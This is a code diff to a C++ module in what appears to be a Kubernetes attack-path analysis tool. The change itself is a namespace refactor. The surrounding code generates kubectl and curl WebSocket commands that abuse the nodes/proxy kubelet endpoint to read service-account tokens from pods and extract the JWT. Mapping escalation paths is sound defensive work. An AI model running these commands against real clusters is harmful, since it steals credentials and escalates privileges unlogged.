@@ -1,10 +1,10 @@
 #include "graph/base/shell_quote.h"
+#include "graph/escalation/requests/text.h"
 #include "graph/escalation/techniques/all.h"
-#include "graph/escalation/text.h"
 
 #include <fmt/format.h>
 
-namespace nsposture::escalation {
+namespace nsposture::escalation::techniques {
 
 namespace {
 
@@ -32,7 +32,7 @@ constexpr std::string_view kToken = "/var/run/secrets/kubernetes.io/serviceaccou
 
 std::string by_post(const StepView& view, const std::string& node, const std::string& place) {
   const auto path = fmt::format("/api/v1/nodes/{}/proxy/run/{}?cmd=cat%20{}", node, place, kToken);
-  return keep_token(
+  return requests::keep_token(
       view, fmt::format("{} create --raw {} -f /dev/null", view.kubectl, shell_quote(path)));
 }
 
@@ -46,7 +46,8 @@ std::string by_websocket(const StepView& view, const std::string& node, const st
       "-H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==' "
       "-H 'Sec-WebSocket-Protocol: v4.channel.k8s.io' {} | grep -ao 'ey[A-Za-z0-9._-]*'",
       shell_quote(url));
-  return fmt::format("{} proxy --port=8001 &\nsleep 1\n{}", view.kubectl, keep_token(view, curl));
+  return fmt::format("{} proxy --port=8001 &\nsleep 1\n{}", view.kubectl,
+                     requests::keep_token(view, curl));
 }
 
 StepText text(const StepView& view) {
@@ -58,8 +59,8 @@ StepText text(const StepView& view) {
     const auto& node = view.world.nodes()[pod.node];
     if (only != nullptr && only->node != pod.node) continue;
     const auto place = fmt::format("{}/{}/CONTAINER", view.account_ns, pod.name);
-    return {uses(view.edge, kGetNodeProxy) ? by_websocket(view, node, place)
-                                           : by_post(view, node, place),
+    return {requests::uses(view.edge, kGetNodeProxy) ? by_websocket(view, node, place)
+                                                     : by_post(view, node, place),
             "nodes/proxy reaches the kubelet, which runs commands in every pod of the node without "
             "asking or logging; `get` is enough when the request becomes a WebSocket"};
   }
@@ -81,4 +82,4 @@ Technique node_proxy() {
           .text = text};
 }
 
-}  // namespace nsposture::escalation
+}  // namespace nsposture::escalation::techniques
